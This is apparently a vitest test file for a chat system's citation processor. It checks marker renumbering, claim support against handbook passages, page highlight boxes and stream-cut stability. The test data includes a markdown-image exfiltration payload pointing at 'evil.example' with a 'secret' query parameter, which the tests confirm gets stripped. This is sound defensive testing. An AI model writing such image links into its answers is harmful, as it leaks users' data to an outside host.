import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Citation, citationMarker } from '#lib/shared/chat-contract.ts'
import { type CiteEvent, createCiter, type PageBoxes, quoteRects } from './cite.ts'
import type { Passage } from './evidence.ts'

const passage = (n: number, text: string, charStart = 0): Passage => ({
  n,
  chunkId: `chunk-${n}`,
  documentId: `document-${n}`,
  versionId: `version-${n}`,
  title: 'Employee handbook',
  collectionId: 'people',
  collection: 'People',
  mediaType: 'application/pdf',
  page: 7,
  pages: 40,
  pageTo: 8,
  headingPath: ['Leave'],
  context: '',
  text,
  charStart,
  charEnd: charStart + text.length,
  score: 1,
  lexical: null,
  vector: null,
  tokens: 20,
})

const passages = [
  passage(1, 'Every employee gets 25 days of annual leave. Leave is agreed with the manager.', 1000),
  passage(2, 'Up to five days may be carried over. They lapse on 31 March of the next year.', 5000),
  passage(3, 'Expenses are paid back within 14 days.'),
]

const run = (pieces: readonly string[], given = passages, pages: PageBoxes[] = []) => {
  const citer = createCiter({ passages: given }, pages)
  const events: CiteEvent[] = [...pieces.flatMap((piece) => citer.push(piece)), ...citer.end()]
  return {
    text: events.map((event) => (event.type === 'text' ? event.text : '')).join(''),
    citations: events.flatMap((event): Citation[] => (event.type === 'citation' ? [event.citation] : [])),
    events,
    summary: citer.summary(),
  }
}
const cite = (text: string) => run([text])

describe('markers', () => {
  it('become ordinals in order, with chips numbered by first appearance of the passage', () => {
    const { text, citations } = cite(
      'They lapse on 31 March [2]. You get 25 days of annual leave [1]. Five days may be carried over [2].',
    )
    expect(text).toBe(
      'They lapse on 31 March [^1]. You get 25 days of annual leave [^2]. Five days may be carried over [^3].',
    )
    expect(citations.map(({ ordinal, n, chunkId }) => [ordinal, n, chunkId])).toEqual([
      [1, 1, 'chunk-2'],
      [2, 2, 'chunk-1'],
      [3, 1, 'chunk-2'],
    ])
  })

  it.each([
    ['25 days [1, 2].', '25 days [^1][^2].'],
    ['25 days [1][2].', '25 days [^1][^2].'],
    ['25 days [1-3].', '25 days [^1][^2][^3].'],
    ['25 days【2】.', '25 days[^1].'],
    ['25 days【2†source】.', '25 days[^1].'],
    ['25 days [^2].', '25 days [^1].'],
    ['25 days [Source 2].', '25 days [^1].'],
    ['25 days [1][1].', '25 days [^1].'],
  ])('are understood as models write them: %s', (written, shown) => {
    expect(cite(written).text).toBe(shown)
  })

  it('that name no passage are taken out and counted', () => {
    const { text, citations, summary } = cite('You get 25 days [9]. It is agreed [1, 7].')
    expect(text).toBe('You get 25 days. It is agreed [^1].')
    expect(citations).toHaveLength(1)
    expect(summary.removedMarkers).toBe(2)
  })

  it('are left alone in code, and years in brackets are not markers', () => {
    expect(cite('Use `a[1]` and:\n```js\nb[2] // [1]\n```\nin [2024] [1]').text).toBe(
      'Use `a[1]` and:\n```js\nb[2] // [1]\n```\nin [2024] [^1]',
    )
  })

  it('cannot be forged with our own notation, whole or put together from pieces', () => {
    expect(cite('See [^[9]7] and ```[^7]``` and \\[^7].').text).not.toMatch(citationMarker)
  })
})

describe('images and links', () => {
  it.each([
    ['An ![alt words](https://evil.example/?q=secret) here', 'An alt words here'],
    ['An ![alt][ref] here', 'An alt[ref] here'],
    ['[![alt](https://a.example/x.png)](https://b.example)', 'alt'],
    ['Read [the handbook](https://evil.example "title") now', 'Read the handbook now'],
    ['Read [the (old) handbook](https://evil.example/a_(b)) now', 'Read the (old) handbook now'],
  ])('leave only their words: %s', (written, shown) => {
    expect(cite(written).text).toBe(shown)
  })

  it('are never left in, however they are nested, escaped or made long', () => {
    const bit = fc.constantFrom(
      '!',
      '[',
      ']',
      '(',
      ')',
      '[1]',
      '[9]',
      'https://e.example',
      '\\',
      '`',
      '\n',
      'a',
      ' ',
      ':',
      '^',
      '1',
      '```',
      '【2】',
      'x'.repeat(390),
    )
    fc.assert(
      fc.property(fc.array(bit, { maxLength: 24 }), (bits) => {
        const { text } = cite(bits.join(''))
        const outsideCode = text.replace(/`[^`]*`/g, '')
        if (!text.includes('`')) expect(outsideCode).not.toMatch(/\]\(|^\s*\[[^\]]+\]:/m)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('streaming', () => {
  const bit = fc.oneof(
    fc.constantFrom(
      '[1]',
      '[2',
      ']',
      '[',
      '!',
      '![',
      '](',
      ')',
      '[9]',
      '[1, 3]',
      '[^1]',
      '【',
      '】',
      '`',
      '```',
      '~~~',
      '\n',
      '\n\n',
      ' ',
      '\\',
      '. ',
      '25 days',
      '[^',
      '😀',
    ),
    fc.string({ maxLength: 6 }),
  )

  it('gives the same, however the text is cut', () => {
    fc.assert(
      fc.property(fc.array(bit, { maxLength: 40 }), fc.integer({ min: 1, max: 7 }), (bits, size) => {
        const whole = bits.join('')
        const pieces = Array.from({ length: Math.ceil(whole.length / size) }, (_, i) =>
          whole.slice(i * size, (i + 1) * size),
        )
        const [at, by] = [run([whole]), run(pieces)]
        expect(by.text).toBe(at.text)
        expect(by.citations).toEqual(at.citations)
        expect(by.summary).toEqual(at.summary)
      }),
      { numRuns: 1500 },
    )
  })

  it('never shows a marker before its citation, nor a citation without its marker', () => {
    fc.assert(
      fc.property(fc.array(bit, { maxLength: 40 }), (bits) => {
        const { events, text, citations } = run([...bits.join('')])
        expect([...text.matchAll(citationMarker)].map((match) => Number(match[1]))).toEqual(
          citations.map(({ ordinal }) => ordinal),
        )
        let seen = 0
        let soFar = ''
        for (const event of events) {
          if (event.type === 'citation') seen += 1
          else soFar += event.text
          expect([...soFar.matchAll(citationMarker)].length).toBeLessThanOrEqual(seen)
        }
      }),
      { numRuns: 1000 },
    )
  })

  it('holds back a possible marker only', () => {
    const citer = createCiter({ passages })
    const shown = (delta: string) =>
      citer
        .push(delta)
        .map((event) => (event.type === 'text' ? event.text : '*'))
        .join('')
    expect(shown('You get 25 days')).toBe('You get 25 days')
    expect(shown(' [')).toBe('')
    expect(shown('1')).toBe('')
    expect(shown('].')).toBe(' *[^1].')
    expect(citer.end()).toEqual([])
    expect(citer.end()).toEqual([])
  })
})

describe('citations', () => {
  it('quote the sentence behind the claim, placed in the text of the version', () => {
    const [citation] = cite('You may carry over some. They lapse on 31 March [2].').citations
    expect(citation).toMatchObject({
      claim: 'They lapse on 31 March',
      quote: 'They lapse on 31 March of the next year.',
      charStart: 5037,
      charEnd: 5077,
      supported: true,
      page: 7,
    })
  })

  it('are not supported by a passage that says another number', () => {
    expect(cite('Every employee gets 30 days of annual leave [1].').citations[0]?.supported).toBe(false)
    expect(cite('Up to five days may not be carried over [2].').citations[0]?.supported).toBe(false)
  })

  it('in the middle of a sentence stand behind the part before them', () => {
    const claims = cite('You get 25 days of annual leave [1], and expenses are paid back within 14 days [3].').citations
    expect(claims.map(({ claim }) => claim)).toEqual([
      'You get 25 days of annual leave',
      ', and expenses are paid back within 14 days',
    ])
    expect(claims.every(({ supported }) => supported)).toBe(true)
  })

  it('carry the page and the place of the quote on it', () => {
    const pages: PageBoxes[] = [
      { versionId: 'version-2', page: 7, charStart: 4000, charEnd: 5030, boxes: [] },
      {
        versionId: 'version-2',
        page: 8,
        charStart: 5030,
        charEnd: 6000,
        boxes: [
          [5030, 5037, 0.1, 0.2, 0.1, 0.02],
          [5037, 5050, 0.2, 0.2, 0.3, 0.02],
          [5050, 5077, 0.51, 0.201, 0.3, 0.02],
        ],
      },
    ]
    const [citation] = run(['They lapse on 31 March [2].'], passages, pages).citations
    expect(citation?.page).toBe(8)
    expect(citation?.rects).toHaveLength(1)
    expect(citation?.rects[0]?.x).toBeCloseTo(0.2)
    expect(citation?.rects[0]?.width).toBeCloseTo(0.61)
  })

  it('cut the first and the last line to the quoted words', () => {
    const page: PageBoxes = {
      versionId: 'v',
      page: 1,
      charStart: 0,
      charEnd: 20,
      boxes: [
        [0, 10, 0, 0, 1, 0.1],
        [10, 20, 0, 0.2, 1, 0.1],
      ],
    }
    expect(quoteRects(page, 5, 15)).toEqual([
      { x: 0.5, y: 0, width: 0.5, height: 0.1 },
      { x: 0, y: 0.2, width: 0.5, height: 0.1 },
    ])
  })
})

describe('summary', () => {
  it('counts a sentence without a citation as a claim without support', () => {
    expect(cite('Every employee gets 25 days of annual leave [1]. Contractors get none of it at all.').summary).toEqual(
      {
        claims: { total: 2, supported: 1 },
        removedMarkers: 0,
      },
    )
  })

  it('counts neither lead-ins nor the remark that the documents do not say it', () => {
    expect(
      cite('The documents do not say this directly. The closest passages are:\n- Leave is agreed with the manager. [1]')
        .summary.claims,
    ).toEqual({
      total: 1,
      supported: 1,
    })
  })
})
